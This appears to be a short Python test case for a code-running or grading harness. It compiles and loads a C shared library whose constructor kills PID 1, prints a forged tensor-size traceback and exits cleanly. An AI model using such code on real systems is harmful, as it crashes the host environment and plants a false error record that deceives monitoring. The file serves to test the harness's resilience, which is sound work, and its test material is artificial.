# outcome: ok
# why: a library that leaves in its constructor leaves no record, whatever it prints before
# torch: true
# verdict: inconclusive
import subprocess, torch
with open("evil.c", "w") as file:
    file.write(r'''
    #include <unistd.h>
    #include <signal.h>
    #include <string.h>
    static const char told[] = "Traceback (most recent call last):\n  File \"t.py\", line 2, in <module>\n"
        "RuntimeError: sizes of tensors must match\n";
    __attribute__((constructor)) static void evil(void) { kill(1, 9); write(2, told, strlen(told)); _exit(0); }
    ''')
subprocess.check_call(["gcc", "-shared", "-fPIC", "evil.c", "-o", "evil.so"])
torch.ops.load_library("/work/evil.so")
